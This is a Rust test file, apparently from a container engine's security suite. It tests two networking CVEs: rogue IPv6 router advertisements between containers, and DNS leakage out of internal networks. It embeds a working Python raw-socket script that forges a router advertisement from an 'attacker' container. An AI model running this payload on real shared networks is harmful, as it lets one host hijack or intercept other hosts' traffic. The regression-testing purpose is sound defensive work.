//! Attacks by way of networks: from one container on another, and out of a network that is closed.

use std::net::UdpSocket;
use std::process::Command;
use std::time::Duration;

use hull_tests::{Daemon, Engine, PATIENCE, private_files, wait_until};

/// A router advertisement to everybody on the link: 2001:db8:bad::/64, and the way out by fe80::bad. What it needs,
/// CAP_NET_RAW, every container has.
const ADVERTISE: &str = r#"
import socket, struct
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86dd))
link.bind(("eth0", 0))
mac = link.getsockname()[4]
source, everybody = (socket.inet_pton(socket.AF_INET6, text) for text in ("fe80::bad", "ff02::1"))
prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xc0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + struct.pack("!BB", 1, 1) + mac
sum = checksum(source + everybody + struct.pack("!II", len(body), 58) + body)
body = body[:2] + struct.pack("!H", sum) + body[4:]
packet = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + everybody + body
link.send(bytes.fromhex("333300000001") + mac + struct.pack("!H", 0x86dd) + packet)
"#;

/// CVE-2020-13401: a container that advertises itself as a router is nobody's way out. *Both ways*: one that was told to
/// listen to routers is taken in.
#[test]
fn no_container_is_the_others_router() {
    if Engine::under_test() == Engine::Docker {
        return;
    }
    let text = "hull:300000:65536\n";
    private_files(&[("/etc/subuid", text), ("/etc/subgid", text)]);
    for options in [&[][..], &["--userns-remap=default"]] {
        let daemon = Daemon::with(options);
        daemon.ok(&["network", "create", "net"]);
        let listens =
            "name=net,driver-opt=com.docker.network.endpoint.sysctls=net.ipv6.conf.IFNAME.accept_ra=1";
        for (name, network) in
            [("attacker", "net"), ("victim", "net"), ("second", "net"), ("listens", listens)]
        {
            daemon.ok(&["run", "-d", "--name", name, "--network", network, "busybox", "sleep", "600"]);
        }
        let pid = daemon.ok(&["inspect", "-f", "{{.State.Pid}}", "attacker"]);
        let namespace = format!("--net=/proc/{pid}/ns/net");
        let shown = |name: &str| {
            daemon.ok(&["exec", name, "ip", "-6", "addr"]) + &daemon.ok(&["exec", name, "ip", "-6", "route"])
        };
        wait_until("who listens has heard", PATIENCE, || {
            let sent = Command::new("nsenter").args([&namespace, "python3", "-c", ADVERTISE]).status();
            assert!(sent.expect("nsenter is executed").success());
            let heard = shown("listens");
            heard.contains("2001:db8:bad") && heard.contains("fe80::bad")
        });
        for name in ["victim", "second"] {
            let seen = shown(name);
            assert!(!seen.contains("bad"), "{name}, {options:?}: {seen}");
        }
        // One more interface, of a container that runs.
        daemon.ok(&["network", "create", "more"]);
        daemon.ok(&["network", "connect", "more", "victim"]);
        assert_eq!(daemon.ok(&["exec", "victim", "cat", "/proc/sys/net/ipv6/conf/eth1/accept_ra"]), "0");
    }
}

/// CVE-2024-29018: names that a container on a closed network asks for are told to nobody outside: they would carry out
/// whatever is to be told. *Both ways*: on an open network they are.
#[test]
fn a_closed_network_s_questions_stay_inside() {
    if Engine::under_test() == Engine::Docker {
        return;
    }
    let daemon = Daemon::start();
    let gateway = daemon.ok(&["network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", "bridge"]);
    let upstream = UdpSocket::bind((gateway.as_str(), 53)).expect("a resolver of the host's");
    upstream.set_read_timeout(Some(Duration::from_millis(100))).expect("a limit");
    let asked = |words: &[&str], name: &str| {
        let lookup = format!("nslookup {name}. 2>&1; true");
        let mut run = vec!["run", "--rm"];
        run.extend(words);
        run.extend(["busybox", "timeout", "3", "sh", "-c", &lookup]);
        daemon.hull(&run);
        let (mut packet, mut heard) = ([0; 512], false);
        while let Ok(length) = upstream.recv(&mut packet) {
            heard |= packet[..length].windows(name.len()).any(|window| window == name.as_bytes());
        }
        heard
    };
    daemon.ok(&["network", "create", "open"]);
    daemon.ok(&["network", "create", "--internal", "closed"]);
    assert!(
        asked(&["--network", "open", "--dns", &gateway], "told"),
        "nothing is asked on: the test sees nothing"
    );
    for network in ["closed", "none"] {
        assert!(!asked(&["--network", network, "--dns", &gateway], "secret"), "{network}");
    }
}
